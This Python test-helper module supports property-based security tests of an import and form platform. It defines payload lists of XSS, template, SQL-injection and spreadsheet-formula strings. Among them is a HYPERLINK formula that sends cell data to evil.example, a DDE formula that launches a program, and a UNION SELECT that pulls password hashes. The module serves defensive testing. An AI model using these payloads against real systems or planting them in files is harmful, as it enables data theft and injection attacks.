"""What an abuser types, and ways to check what the platform made of it (imported by the security tests).

The payload lists are the classic ones (markup, template syntax, spreadsheet formulas, SQL and FTS5
syntax, control characters, digits that are not ASCII, huge values); the strategies mix them with
Hypothesis's own random text. Every test that uses them runs derandomized, so CI sees the same cases.
"""
import csv
import io
import re
from datetime import date, datetime, time

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import select, text

from platform.core.dates import beijing_today
from platform.core.extensions import db
from platform.core.access import SYSTEM

# One profile for every property test here: reproducible, no example database in the work tree,
# and the function-scoped `app` fixture shared by a test's examples on purpose (each example checks
# deltas, so the rows earlier examples left behind do not matter). No shrinking: an example builds a
# workbook and runs an import, so shrinking one takes minutes; the failing example is printed as found.
abuse = settings(max_examples=40, deadline=None, derandomize=True, database=None, print_blob=False,
                 phases=[Phase.explicit, Phase.reuse, Phase.generate],
                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                        HealthCheck.data_too_large, HealthCheck.filter_too_much])

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "{{7*7}}",
    "{% for x in range(3) %}x{% endfor %}",
    "javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
]
SQLISH = ["' OR 1=1 --", "' OR '1'='1", "%", "_", "%%", "%_%", '"', "'", "\\", "1; DROP TABLE enterprises; --",
          "' UNION SELECT username, password_hash FROM users --"]
FTS = ["NEAR(", "NEAR(a b)", "*", "a*", "AND", "OR", "NOT", "AND OR NOT", '"unbalanced', "(", ")", "((a)",
       "name:x", "^a", "{a b}", "-a", "+a", "a OR b", '""', "NOT *"]
CONTROL = ["\x00", "a\x00b", "\x01\x02\x1f", "\x7f", "\u200b", "\u202e反向", "\ufeff", "\r\n", "\t", "\x0b\x0c"]
NUMBERS = ["²", "١٢٣", "٣", "１２", "9" * 5000, "99999999999999999999999", "-1", "0", "1e309", "1e30", "NaN",
           "Infinity", "-0", "0x10", " 1 ", "1_000", "3.14", ""]
DATES = ["0000-00-00", "9999-12-31", "0001-01-01", "2025-02-30", "2025-13-45", "20250101", "2025/1/1",
         "1900-01-00", "-2025-01-01", "10000-01-01", "2025年13月1日"]
HUGE = ["x" * 100_000, "企" * 5_000, "<b>" * 2_000]

PAYLOADS = XSS + FORMULAS + SQLISH + FTS + CONTROL + NUMBERS + DATES + HUGE

payload = st.sampled_from(PAYLOADS)
nasty_text = st.one_of(
    payload,
    st.text(max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS[:40]), st.text(max_size=10)),
)


def xlsx_safe(value):
    """openpyxl refuses the control characters XML cannot hold; an Excel file never carries them.
    A bare carriage return is read back as a line feed (XML normalises line ends; Excel itself
    writes _x000D_), so a cell holds line feeds only."""
    return ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value


# A cell as a spreadsheet can hold it: text, numbers of any size, dates and times far outside any
# plausible range, booleans, blanks.
cell = st.one_of(
    nasty_text,
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
    st.times(),
    st.booleans(),
    st.none(),
)


def rows_for(headers: list[str], *, max_rows: int = 6, plausible: dict | None = None):
    """Rows of arbitrary cells, some shorter and some longer than the header row, some empty.

    `plausible` maps a header to a strategy of values that pass its column's checks; a cell of such
    a column is drawn from it half the time, so that rows get past the first check and reach the
    deeper ones (listing, dates, amounts) with the other cells still arbitrary.
    """
    plausible = plausible or {}

    def column(header):
        return st.one_of(plausible[header], cell) if header in plausible else cell

    full = st.tuples(*[column(h) for h in headers]).map(list) if headers else st.just([])
    row = st.one_of(
        full,
        full,
        full.flatmap(lambda r: st.integers(0, len(r)).map(lambda n: r[:n])),  # cut short
        full.flatmap(lambda r: st.lists(cell, max_size=3).map(lambda extra: r + extra)),  # spills over
        st.just([]),  # blank
    )
    return st.lists(row, min_size=1, max_size=max_rows)


def headers_for(required: list[str], optional: list[str]):
    """The required headers (one in ten times one is missing), some optional ones and some unknown
    extras, shuffled."""
    kept = st.integers(0, 9).flatmap(
        lambda n: st.just(list(required)) if n else
        st.sampled_from(required).map(lambda gone: [h for h in required if h != gone]))
    return st.tuples(
        kept,
        st.lists(st.sampled_from(optional), unique=True, max_size=len(optional)) if optional else st.just([]),
        st.lists(st.sampled_from(["备注", "序号", "=SUM(A1:A9)", "<script>alert(1)</script>", ""]), unique=True,
                 max_size=2),
    ).flatmap(lambda parts: st.permutations(parts[0] + parts[1] + parts[2]))


def xlsx_file(headers, rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([xlsx_safe(h) for h in headers])
    for row in rows:
        if row:
            sheet.append([xlsx_safe(v) for v in row])
        else:
            sheet.append([None])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_file(headers, rows) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    return out.getvalue().encode("utf-8")


def build_file(fmt: str, headers, rows) -> bytes:
    return xlsx_file(headers, rows) if fmt == "xlsx" else csv_file(headers, rows)


CJK = re.compile(r"[\u4e00-\u9fff]")


def is_chinese(message: str) -> bool:
    return bool(message) and bool(CJK.search(message))


LOGIN_BOOKKEEPING = {"login_sessions", "login_failures"}


def row_counts() -> dict[str, int]:
    """Rows in every table of the platform: a run that wrote nothing leaves this unchanged.
    (One statement for all tables: property tests take this twice an example.) The login
    bookkeeping is left out: signing a test's browser in starts a login session."""
    names = [table.name for table in db.metadata.sorted_tables if table.name not in LOGIN_BOOKKEEPING]
    columns = ", ".join(f'(SELECT count(*) FROM "{name}")' for name in names)
    return dict(zip(names, db.session.execute(text(f"SELECT {columns}")).one()))


def delta(before: dict, after: dict) -> dict:
    return {name: after[name] - before[name] for name in after if after[name] != before.get(name, 0)}


def check_report(report, numbers: set[int], headers: set[str]) -> None:
    """An import report names, for each refusal, a row of the file, a column of the file, and a reason in Chinese."""
    assert report.created + report.updated + report.unchanged + report.rejected_rows == report.total
    for row, column, reason in report.errors:
        assert row in numbers, (row, numbers)
        assert column in headers, (column, headers)
        assert is_chinese(reason), reason


def file_rows(fmt: str, headers, rows) -> set[int]:
    """The numbers (as the user sees them) of the rows an importer should look at: the non-blank ones."""
    numbers = set()
    for number, row in enumerate(rows, start=2):
        values = [xlsx_safe(v) if fmt == "xlsx" else v for v in row]
        if any(v is not None and str(v).strip() != "" for v in values):
            numbers.add(number)
    return numbers


def read_xlsx(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[c.value for c in row] for row in sheet.iter_rows()]


def xlsx_cell_types(data: bytes) -> list[list[str]]:
    """openpyxl's data type of every cell ('f' is a formula)."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[c.data_type for c in row] for row in sheet.iter_rows()]


FIXED_TIME = time(9, 30)


# --- pages ----------------------------------------------------------------------------------------------

ERROR_TEXT = re.compile(r'<p class="error"[^>]*>([^<]*)</p>|<div class="flash flash-danger">([^<]*)</div>'
                        r'|<section class="error-page">\s*<h1>[^<]*</h1>\s*<p>([^<]*)</p>')
OK_STATUSES = {200, 201, 302, 303, 400, 401, 403, 404, 405, 409, 413, 414, 422, 429, 503}


def page_errors(html: str) -> list[str]:
    """The error messages a form page shows (beside fields, and above the form)."""
    return ["".join(groups) for groups in ERROR_TEXT.findall(html)]


def check_answer(response, sent: dict | None = None) -> str:
    """Any answer but a server error; a refusal says why in Chinese; nothing sent comes back as markup."""
    assert response.status_code in OK_STATUSES, response.status_code
    if response.mimetype not in ("text/html", "application/json"):
        assert response.status_code == 200  # a download
        return ""
    body = response.get_data(as_text=True)
    if response.is_json:
        if response.status_code >= 400:
            error = response.get_json()["error"]
            assert is_chinese(error["message"]), error
    elif response.status_code == 422:
        errors = page_errors(body)
        assert errors and all(is_chinese(e) for e in errors), errors
    elif response.status_code >= 400:
        assert is_chinese(body)
    for value in (sent or {}).values():
        for text_value in value if isinstance(value, list) else [value]:
            if isinstance(text_value, str) and text_value in XSS and "<" in text_value:
                assert text_value not in body, f"{text_value!r} came back unescaped"
    return body


# --- the credit world, small -------------------------------------------------------------------------------

def overdue_case(world, enterprise, listed_on: date = date(2026, 1, 5)):
    """Listed, silent past the disclosure deadline, ordered to rectify within three weeks, still silent:
    an overdue case a regulator may penalise (as tests/credit builds it)."""
    from datetime import timedelta

    from platform.audits import cases as case_services
    from platform.audits import services as audits
    from platform.audits.jobs import compliance_scan
    from platform.audits.models import Case

    regulator = world.regulator_a if enterprise.city_code == "450100" else world.regulator_b
    audits.publish_batch(regulator, title=f"{listed_on} 名单", published_on=listed_on, usccs=[enterprise.uscc],
                         today=listed_on)
    opened_on = listed_on + timedelta(days=32)
    compliance_scan(opened_on)
    case = db.session.scalar(select(Case).where(Case.enterprise_id == enterprise.id,
                                                Case.cause == "disclosure_overdue"))
    deadline = opened_on + timedelta(days=24)
    case_services.order_rectification(regulator, case, deadline=deadline, today=opened_on + timedelta(days=3))
    compliance_scan(deadline + timedelta(days=1))
    db.session.commit()
    assert case.state == "overdue"
    return case


def approved_record(world, decision_no: str):
    """ent_a's general credit record, decided 150 days ago and approved: published at the next
    publisher run, and repairable today."""
    from datetime import timedelta

    from platform.credit import services as credit

    today = beijing_today()
    case = overdue_case(world, world.ent_a, listed_on=today - timedelta(days=300))
    decision = credit.record_penalty(world.regulator_a, case, decision_no=decision_no,
                                     decided_on=today - timedelta(days=150), facts="逾期未公开", legal_basis="第三十九条",
                                     fine_yuan="100000", severity="general", today=today - timedelta(days=150))
    credit.approve(world.province, decision.record)
    db.session.commit()
    return decision.record


def bearer(user) -> dict:
    from platform.accounts.services import issue_token

    token = issue_token(SYSTEM, user)
    db.session.commit()
    return {"Authorization": f"Bearer {token}"}
